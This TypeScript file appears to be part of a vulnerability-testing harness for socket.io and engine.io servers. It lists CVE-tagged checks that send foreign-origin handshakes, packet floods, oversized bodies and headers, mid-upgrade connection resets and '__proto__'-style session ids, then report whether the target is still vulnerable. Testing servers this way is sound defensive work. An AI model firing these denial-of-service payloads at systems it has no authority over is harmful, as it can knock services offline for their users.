import { type Attack, ENGINE, GENERATIONS, type Generation } from '../attack.js';
import { PATIENCE, type Target } from '../target.js';

const NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype'];
const FOREIGN = { origin: 'https://evil.example' };

/** Every one of these must be refused. @returns the first that is not */
async function allRefused(target: Target, paths: readonly string[]): Promise<string | undefined> {
  for (const path of paths) {
    for (const method of ['GET', 'POST']) {
      const { status, body } = await target.request(path, { method, body: method === 'POST' ? 'x' : '' });
      // Clients of 0.9 are told with an error packet, by the answer to a GET.
      if (!/^(7::|1$)/.test(body) && (status < 400 || status >= 500))
        return `${method} ${path} is answered with ${status} ${body.slice(0, 20)}`;
    }
    const wire = await target.webSocket(path);
    if (typeof wire === 'number') continue;
    const closed = await wire.isClosed();
    wire.end();
    if (!closed) return `an upgrade of ${path} is accepted`;
  }
  return undefined;
}

function withSid(target: Target, generation: Generation, sid: string): string {
  if (generation === '0.9') return `${target.path}1/xhr-polling/${sid}`;
  return target.handshake(generation, 'polling', `&sid=${sid}`);
}

const ODD_VALUES = [...NAMES, '%00', '%5Bobject%20Object%5D', 'websocket&transport=polling'];

/** In requests: queries, headers, bodies. */
export const REQUEST_ATTACKS: readonly Attack[] = [
  {
    id: 'CVE-2019-13611',
    about: "python-engineio: a page of another origin opens a WebSocket with its visitor's cookie",
    generations: GENERATIONS,
    async run(target, generation) {
      const { status } = await target.request(target.handshake(generation), { headers: FOREIGN });
      if (status === 200) return 'a handshake of a foreign origin is accepted';
      if (generation === '0.9') return undefined;
      const wire = await target.webSocket(target.handshake(generation, 'websocket'), { headers: FOREIGN });
      if (typeof wire === 'number') return undefined;
      wire.end();
      return 'a WebSocket of a foreign origin is accepted';
    },
  },
  {
    id: 'CVE-2020-28481',
    about: 'socket.io: pages of any origin may read the answers unless told otherwise',
    generations: GENERATIONS,
    async run(target, generation) {
      const { headers } = await target.request(target.handshake(generation), { headers: FOREIGN });
      const allowed = headers['access-control-allow-origin'];
      return allowed === undefined ? undefined : `Access-Control-Allow-Origin: ${allowed}`;
    },
  },
  {
    id: 'CVE-2020-36048',
    about: 'engine.io: a body of very many tiny packets, or of any size',
    generations: GENERATIONS,
    async run(target, generation) {
      const unit = { eio4: '2\x1e', eio3: '2:42', '0.9': '\ufffd1\ufffd2' }[generation];
      const began = performance.now();
      await post(target, generation, unit.repeat(Math.floor(900_000 / Buffer.byteLength(unit))));
      if (performance.now() - began > PATIENCE) return 'a body of tiny packets takes seconds';
      const { status } = await post(target, generation, Buffer.alloc(20_000_000, '4'));
      return status === 413 || status === 400 || status === 0 ? undefined : `20 MB are answered with ${status}`;
    },
  },
  {
    id: 'CVE-2021-32640',
    about: 'ws: blanks in Sec-WebSocket-Protocol take quadratic time',
    generations: GENERATIONS,
    async run(target, generation) {
      const headers = [`Sec-WebSocket-Protocol: b${' '.repeat(14_000)}x`];
      const socket = target.tcp(target.upgrade(target.handshake(generation, 'websocket'), headers));
      const alive = await target.isAlive();
      socket.destroy();
      return alive ? undefined : 'nobody else is served meanwhile';
    },
  },
  {
    id: 'CVE-2022-41940',
    about: 'engine.io: the connection is reset while an upgrade is being refused',
    generations: GENERATIONS,
    async run(target, generation) {
      const path = target.handshake(generation, 'websocket', '&sid=none').replace('/1/', '/1/websocket/none');
      for (let round = 0; round < 20; round++) {
        const socket = target.tcp(target.upgrade(path));
        // Reset at different moments of the answer.
        await new Promise<void>((resolve) =>
          round % 2 === 0 ? socket.once('connect', resolve) : setTimeout(resolve, round),
        );
        socket.resetAndDestroy();
      }
      return undefined;
    },
  },
  {
    id: 'CVE-2023-31125',
    about: 'engine.io: an upgrade with a parameter that is none throws',
    generations: ENGINE,
    run: (target, generation) =>
      allRefused(
        target,
        ODD_VALUES.flatMap((value) => [
          `${target.path}?EIO=${generation === 'eio4' ? 4 : 3}&transport=${value}`,
          `${target.path}?EIO=4&transport=polling&sid=${value}`,
        ]),
      ),
  },
  {
    id: 'CVE-2024-37890',
    about: 'ws: an upgrade with more headers than are read throws',
    generations: GENERATIONS,
    async run(target, generation) {
      const many = Array.from({ length: 2500 }, (_, i) => `x${i}: 1`);
      const lines = target.upgrade(target.handshake(generation, 'websocket')).split('\r\n');
      const [first = '', host = ''] = lines;
      const socket = target.tcp([first, host, ...many, ...lines.slice(2)].join('\r\n'));
      const alive = await target.isAlive();
      socket.destroy();
      return alive ? undefined : 'the server is gone';
    },
  },
  ...['CVE-2026-59724', 'CVE-2026-102600'].map(
    (id): Attack => ({
      id,
      about: `${id === 'CVE-2026-59724' ? 'engine.io' : '@socket.io/cluster-engine'}: \`__proto__\` is found where sessions are looked up`,
      generations: GENERATIONS,
      run: (target, generation) =>
        allRefused(
          target,
          NAMES.map((name) => withSid(target, generation, name)),
        ),
    }),
  ),
  {
    id: 'CVE-2026-59725',
    about: 'engine.io: a POST of bytes is never answered, and its connection kept',
    generations: ['eio4'],
    async run(target) {
      for (let round = 0; round < 20; round++) {
        const path = withSid(target, 'eio4', await target.session('eio4'));
        const headers = { 'content-type': 'application/octet-stream' };
        const { status } = await target.request(path, { method: 'POST', headers, body: Buffer.of(1, 2, 3) });
        if (status === 0) return 'no answer';
      }
      return undefined;
    },
  },
  {
    id: 'CVE-2026-102599',
    about: 'engine.io: a session of one revision goes on in another',
    generations: GENERATIONS,
    async run(target, generation) {
      const own = { eio4: 'EIO=4', eio3: 'EIO=3', '0.9': 'none' }[generation];
      // No EIO, or one that does not exist, means 3 to some.
      const others = generation === 'eio3' ? ['EIO=4'] : ['EIO=4', 'EIO=3', '', 'EIO=5'].filter((one) => one !== own);
      for (const other of others) {
        const sid = await target.session(generation);
        const problem = await allRefused(target, [`${target.path}?${other}&transport=polling&sid=${sid}`]);
        if (problem !== undefined) return problem;
        const wire = await target.webSocket(`${target.path}?${other}&transport=websocket&sid=${sid}`);
        if (typeof wire === 'number') continue;
        wire.end();
        return `a session of ${generation} is upgraded with ${other || 'no EIO'}`;
      }
      if (generation === '0.9') return undefined;
      const sid = await target.session(generation);
      return allRefused(target, [`${target.path}1/xhr-polling/${sid}`]);
    },
  },
];

async function post(target: Target, generation: Generation, body: string | Buffer) {
  const path = withSid(target, generation, await target.session(generation));
  return target.request(path, { method: 'POST', headers: { 'content-type': 'text/plain;charset=UTF-8' }, body });
}
